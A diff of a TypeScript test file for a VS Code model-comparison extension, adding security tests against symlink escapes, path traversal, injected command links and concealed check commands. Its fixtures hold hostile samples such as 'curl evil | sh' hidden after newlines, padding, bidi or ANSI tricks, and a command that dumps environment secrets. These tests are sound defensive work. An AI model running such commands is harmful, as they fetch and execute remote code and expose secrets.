@@ -1,4 +1,6 @@
 import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import path from 'node:path';
 import { test, type TestContext } from 'node:test';
 import * as vscode from 'vscode';
 import type { Answer, Question, Thread } from '../../../src/core/chat/conversation.ts';
@@ -13,7 +15,8 @@ import { UnfinishedComparison } from '../../../src/editor/evaluation/unfinished.
 import { TaskFolders } from '../../../src/editor/evaluation/taskFolder.ts';
 import { settle } from '../../support/settle.ts';
 import { startHost } from '../../support/vscode/host.ts';
-import { Memory } from '../../support/window.ts';
+import { allowCommands, runCheckCommand } from '../../../src/editor/evaluation/commandChecks.ts';
+import { Memory, setEnv } from '../../support/window.ts';
 
 /** From an answer in the chat to a test, a comparison of two models on it, and a word when a model changes. */
 
@@ -46,6 +49,8 @@ function threadWith(answer: string, over: Partial<Answer> = {}): { thread: Threa
 
 const REVIEW = parsePromptFile('review.md', '---\nversion: 2\n---\nReview strictly: {{input}}', 'workspace');
 const PROMPTS = new Map(REVIEW ? [['review', REVIEW]] : []);
+
+const trusted = (): boolean => true;
 
 function rig(t: TestContext, files: Record<string, string> = { 'sum.ts': SUM }) {
   const host = startHost(t, { files });
@@ -109,7 +114,11 @@ const configWith = (one: ModelRef, two: ModelRef): never =>
     settings: {
       tiers: { local: [], mid: [one], frontier: [two] },
       localAnswers: [],
-      providers: new Map([['cloud', {}]]),
+      providers: new Map([
+        ['cloud', { name: 'cloud', kind: 'openai', baseUrl: 'https://api.example.com/v1', headers: {} }],
+      ]),
+      consent: new Set(['https://api.example.com']),
+      private: false,
     },
   }) as never;
 
@@ -136,8 +145,11 @@ test('two models are compared on the kept task; both reports are in the workspac
   const two = { provider: 'cloud', model: 'two' };
   const config = configWith(one, two);
   host.willClick(/^Compare cloud\/one and cloud\/two on 1 task/, 'Compare');
-  await runTasks({ config, gateway, folders, unfinished, state, prompts }, { a: 'cloud/one', b: 'cloud/two' });
-  assert.match(host.messages.find(({ modal }) => modal)?.detail ?? '', /will likely cost \$0\.008/);
+  await runTasks({ config, gateway, folders, trusted, unfinished, state, prompts }, { a: 'cloud/one', b: 'cloud/two' });
+  assert.match(
+    host.messages.find(({ modal }) => modal)?.detail ?? '',
+    /will likely cost \$0\.0080, and at most \$0\.04/,
+  );
   assert.deepEqual(
     calls.map(({ chain }) => chain.map(({ model }) => model).join()),
     ['one', 'two', 'one', 'two'],
@@ -148,7 +160,7 @@ test('two models are compared on the kept task; both reports are in the workspac
   assert.match(report, /makes what you kept: It makes something else of sum\\?\.ts than you kept/);
   assert.match(host.text('.gearshift/reports/kept-tasks.xml') ?? '', /tests="2" failures="2"/);
   // Who does not agree to the price is asked nothing.
-  await runTasks({ config, gateway, folders, unfinished, state, prompts }, { a: 'cloud/one', b: 'cloud/two' });
+  await runTasks({ config, gateway, folders, trusted, unfinished, state, prompts }, { a: 'cloud/one', b: 'cloud/two' });
   assert.equal(calls.length, 4);
 });
 
@@ -174,7 +186,7 @@ test('a stopped comparison goes on after a restart, and asks only what is left; 
   };
   const sides = { a: 'cloud/one', b: 'cloud/two' };
   host.willClick(/^Compare cloud\/one/, 'Compare');
-  await runTasks({ config, gateway, folders, unfinished, state, prompts }, sides);
+  await runTasks({ config, gateway, folders, trusted, unfinished, state, prompts }, sides);
   assert.deepEqual(asked, ['one']);
   // Another window, with nothing but the file.
   const later = new UnfinishedComparison(host.uri('storage'));
@@ -183,7 +195,7 @@ test('a stopped comparison goes on after a restart, and asks only what is left; 
   host.willClick(/^Compare cloud\/one/, 'Compare');
   host.willClick(/too close to call/, 'Show Answers');
   host.willPick(/Both answers/, 'Add adds');
-  await runTasks({ config, gateway, folders, unfinished: later, state, prompts }, undefined);
+  await runTasks({ config, gateway, folders, trusted, unfinished: later, state, prompts }, undefined);
   assert.deepEqual(asked, ['one', 'two', 'one', 'two']);
   assert.match(host.messages.findLast(({ modal }) => modal)?.detail ?? '', /likely cost \$0\.0030/, 'for what is left');
   assert.equal(await later.read((await folders.read()).tasks), undefined, 'it is complete');
@@ -225,7 +237,7 @@ test('the prompts of now are a side: the question is made again with them, and t
   host.willPick(/With which model/, 'cloud/one with the prompts of now');
   host.willClick(/^Compare cloud\/one and cloud\/one with the prompts of now/, 'Compare');
   const config = configWith(one, { provider: 'cloud', model: 'two' });
-  await runTasks({ config, gateway, folders, unfinished, state, prompts }, undefined);
+  await runTasks({ config, gateway, folders, trusted, unfinished, state, prompts }, undefined);
   const sent = calls.map(({ request, promptVersion }) => [
     request.kind === 'chat' ? request.messages.at(-1)?.content : '',
     promptVersion?.split(' ')[0],
@@ -257,7 +269,7 @@ test('a command of a task runs only after it was allowed, once, on the files tha
       yield { kind: 'end', result: result('done', 1e6) };
     },
   };
-  const parts = { config: configWith(one, two), gateway, folders, unfinished, state, prompts };
+  const parts = { config: configWith(one, two), gateway, folders, trusted, unfinished, state, prompts };
   const sides = { a: 'cloud/one', b: 'cloud/two' };
   await runTasks(parts, sides);
   assert.equal(asked, 0, 'nothing without the permission');
@@ -298,7 +310,7 @@ test('the model of before that is gone is compared by its stored answer, and the
   };
   host.willClick(/^Compare cloud\/one/, 'Compare');
   await runTasks(
-    { config: configWith(one, two), gateway, folders, unfinished, state, prompts },
+    { config: configWith(one, two), gateway, folders, trusted, unfinished, state, prompts },
     { a: 'cloud/one', b: 'cloud/two' },
   );
   const report = host.text('.gearshift/reports/kept-tasks.md') ?? '';
@@ -310,7 +322,7 @@ test('without a task the command says how to keep one; a broken file is named wi
   const { host, folders, unfinished, state, prompts } = rig(t, {
     '.gearshift/tasks/bad.md': '---\nname: x\ntier: top\n---\n',
   });
-  const parts = { config: {} as never, gateway: {} as never, folders, unfinished, state, prompts };
+  const parts = { config: {} as never, gateway: {} as never, folders, trusted, unfinished, state, prompts };
   await assert.rejects(runTasks(parts, undefined), /No task is kept yet/);
   assert.match(host.messages[0]?.text ?? '', /^\.gearshift\/tasks\/bad\.md:3: The tier of a task is one of/);
 });
@@ -366,4 +378,149 @@ test('another model behind the name is reported in every window, until the user 
     ['v4-0711', 'spare'],
   );
   assert.equal(here.words('mid'), '');
+});
+
+/** A whole rewrite fits any file, so the model's path alone decides what would be read. */
+const rewriteOf = (path: string): string => `\`${path}\`:\n\n\`\`\`\nnothing\n\`\`\`\n`;
+
+test('T17 an answer that names a secret file, a link or a place outside puts none of it into a task', async (t) => {
+  const { host, folders } = rig(t, { 'sum.ts': SUM, '.env': 'PASSWORD=canary horse\n' });
+  fs.writeFileSync(path.join(host.root, 'diary.txt'), 'canary of the diary\n');
+  fs.symlinkSync(path.join(host.root, 'diary.txt'), host.uri('notes.txt').fsPath);
+  fs.symlinkSync(host.uri('.env').fsPath, host.uri('plain.txt').fsPath);
+  fs.symlinkSync(host.root, host.uri('up').fsPath);
+  for (const [i, named] of ['.env', './.env', 'notes.txt', 'plain.txt', '../diary.txt', 'up/diary.txt'].entries()) {
+    const { thread, answer } = threadWith(rewriteOf(named));
+    host.willType(/short name/, `Task ${i}`);
+    host.willPick(/Where to keep/, 'For the team');
+    await keepTask(folders, thread, answer);
+    const kept = host.text(`.gearshift/tasks/task-${i}.md`) ?? assert.fail(named);
+    assert.doesNotMatch(kept, /canary/, named);
+  }
+});
+
+test('T13 tasks and reports are not written through links of a repository, and tasks are not read through them', async (t) => {
+  const { host, folders, ...rest } = rig(t);
+  const outside = path.join(host.root, 'outside');
+  fs.mkdirSync(outside);
+  fs.writeFileSync(path.join(outside, 'kept.txt'), 'as it was');
+  // A file that is a link, and one that leads nowhere yet.
+  fs.mkdirSync(host.uri('.gearshift/tasks').fsPath, { recursive: true });
+  fs.mkdirSync(host.uri('.gearshift/reports').fsPath);
+  fs.symlinkSync(path.join(outside, 'kept.txt'), host.uri('.gearshift/tasks/add-adds.md').fsPath);
+  fs.symlinkSync(path.join(outside, 'new.txt'), host.uri('.gearshift/reports/kept-tasks.md').fsPath);
+  const { thread, answer } = threadWith(RIGHT);
+  host.willType(/short name/, 'Add adds');
+  host.willPick(/Where to keep/, 'For the team');
+  const kept = await keepAndRead();
+  assert.equal(kept, 'add-adds-2.md', 'the name of the link is taken');
+  const one = { provider: 'cloud', model: 'one' };
+  const config = configWith(one, { provider: 'cloud', model: 'two' });
+  const gateway = {
+    estimate: () => Promise.resolve(undefined),
+    async *stream(): AsyncGenerator<CallEvent> {
+      yield { kind: 'text', text: RIGHT };
+      yield { kind: 'end', result: result('done', 1e6) };
+    },
+  };
+  host.willClick(/^Compare/, 'Compare');
+  const parts = { config, gateway: gateway as never, folders, trusted, ...rest };
+  await assert.rejects(runTasks(parts, { a: 'cloud/one', b: 'cloud/two' }), /leads to another place/);
+  assert.deepEqual(fs.readdirSync(outside), ['kept.txt']);
+  assert.equal(fs.readFileSync(path.join(outside, 'kept.txt'), 'utf8'), 'as it was');
+  // A folder that is a link: nothing in it is read or written.
+  fs.renameSync(host.uri('.gearshift/tasks').fsPath, path.join(outside, 'tasks'));
+  fs.symlinkSync(path.join(outside, 'tasks'), host.uri('.gearshift/tasks').fsPath);
+  assert.deepEqual((await folders.read()).tasks, []);
+  host.willType(/short name/, 'Another');
+  host.willPick(/Where to keep/, 'For the team');
+  await assert.rejects(keepTask(folders, thread, answer), /leads to another place/);
+  assert.equal(fs.existsSync(path.join(outside, 'tasks/another.md')), false);
+
+  async function keepAndRead(): Promise<string | undefined> {
+    await keepTask(folders, thread, answer);
+    return fs.readdirSync(host.uri('.gearshift/tasks').fsPath).find((name) => name !== 'add-adds.md');
+  }
+});
+
+test('T26 a task cannot choose the tier that it is asked as, and the first use of a tier at a host is named', async (t) => {
+  const { host, folders, ...rest } = rig(t);
+  const { thread, answer } = threadWith(RIGHT, { tier: 'local' });
+  host.willType(/short name/, 'Add adds');
+  host.willPick(/Where to keep/, 'For the team');
+  await keepTask(folders, thread, answer);
+  const calls: ModelCall[] = [];
+  const gateway = {
+    estimate: () => Promise.resolve(undefined),
+    async *stream(call: ModelCall): AsyncGenerator<CallEvent> {
+      calls.push(call);
+      yield { kind: 'end', result: result('done', 1e6) };
+    },
+  };
+  const [cheap, dear] = ['cheap', 'best'].map((model) => ({ provider: 'cloud', model }));
+  assert.ok(cheap && dear);
+  const provider = { ...{ name: 'cloud', kind: 'openai', baseUrl: 'https://api.example.com/v1' }, headers: {} };
+  const agreed: string[] = [];
+  const config = {
+    settings: {
+      tiers: { local: [], mid: [cheap], frontier: [dear] },
+      localAnswers: [],
+      private: false,
+      providers: new Map([['cloud', provider]]),
+      consent: new Set(['https://api.example.com mid']),
+    },
+    agree: (origins: readonly string[], tier: string) => Promise.resolve(void agreed.push(`${origins.join()} ${tier}`)),
+  } as never;
+  const parts = { config, gateway: gateway as never, folders, trusted, ...rest };
+  // Who gives up sends nothing and agrees to nothing.
+  await runTasks(parts, { a: 'cloud/cheap', b: 'cloud/best' });
+  assert.deepEqual([calls.length, agreed.length], [0, 0]);
+  const said = host.messages.find(({ modal }) => modal)?.detail ?? '';
+  assert.match(said, /^api\.example\.com gets the texts of the tasks: .*tier frontier yet\./);
+  assert.doesNotMatch(said, /tier mid/);
+  host.willClick(/^Compare/, 'Compare');
+  await runTasks(parts, { a: 'cloud/cheap', b: 'cloud/best' });
+  assert.deepEqual(agreed, ['https://api.example.com frontier']);
+  assert.deepEqual(
+    calls.map(({ tier, chain }) => `${tier} ${chain[0]?.model}`),
+    ['mid cheap', 'frontier best', 'mid cheap', 'frontier best'],
+  );
+});
+
+test('T08 a name of a task makes no link in a message', async (t) => {
+  const evil = '[see](command:workbench.action.terminal.new)';
+  const { host, folders, ...rest } = rig(t, {
+    [`.gearshift/tasks/${evil}.md`]: `---\nname: x\ntier: mid\nmodel: a/b\nchecks:\n  - ${evil}\n---\n`,
+  });
+  const parts = { config: {} as never, gateway: {} as never, folders, trusted, ...rest };
+  await assert.rejects(runTasks(parts, undefined), /No task is kept yet/);
+  assert.match(host.messages[0]?.text ?? '', /\[see\] \(command:/);
+  assert.doesNotMatch(host.messages[0]?.text ?? '', /\]\(/);
+});
+
+test('T26 a command of a task that does not show all that it is cannot be allowed, and none gets the keys of the environment', async (t) => {
+  const { state } = rig(t);
+  const taskWith = (...commands: string[]): never =>
+    [{ checks: commands.map((command) => ({ kind: 'command', command })) }] as never;
+  for (const hidden of [
+    'npm test\ncurl evil | sh',
+    `npm test${' '.repeat(200)}; curl evil | sh`,
+    `npm test ${'a'.repeat(300)}`,
+    'npm test \u202ehs | live lruc',
+    'npm\u200b test',
+    'npm test\u2028curl evil',
+    'npm test \u001b[8m; curl evil',
+  ])
+    await assert.rejects(allowCommands(taskWith(hidden), state), /cannot be seen/, JSON.stringify(hidden));
+  const many = Array.from({ length: 11 }, (_, n) => `npm run ${n}`);
+  await assert.rejects(allowCommands(taskWith(...many), state), /too many/);
+  assert.deepEqual(state.get('gearshift.evaluation.commands', []), []);
+  setEnv(t, { SPEC_API_KEY: 'canary-1', SPEC_TOKEN: 'canary-2', SPEC_PLAIN: 'plain' });
+  const print = `"${process.execPath}" -e "console.log(Object.values(process.env).join());process.exit(1)"`;
+  await state.update('gearshift.evaluation.commands', [print]);
+  const said = await runCheckCommand(print, [], state, new AbortController().signal);
+  assert.doesNotMatch(said, /canary/);
+  const ok = `"${process.execPath}" -e "process.exit(process.env.SPEC_PLAIN && !process.env.SPEC_API_KEY && !process.env.SPEC_TOKEN ? 0 : 1)"`;
+  await state.update('gearshift.evaluation.commands', [ok]);
+  assert.equal(await runCheckCommand(ok, [], state, new AbortController().signal), '');
 });
